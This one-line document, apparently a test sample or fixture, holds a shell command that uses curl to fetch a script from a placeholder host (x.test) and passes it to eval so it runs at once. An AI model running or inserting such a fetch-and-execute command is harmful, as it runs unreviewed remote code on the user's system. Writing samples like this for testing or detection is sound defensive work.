eval "$(curl -fsSL https://x.test/e)"
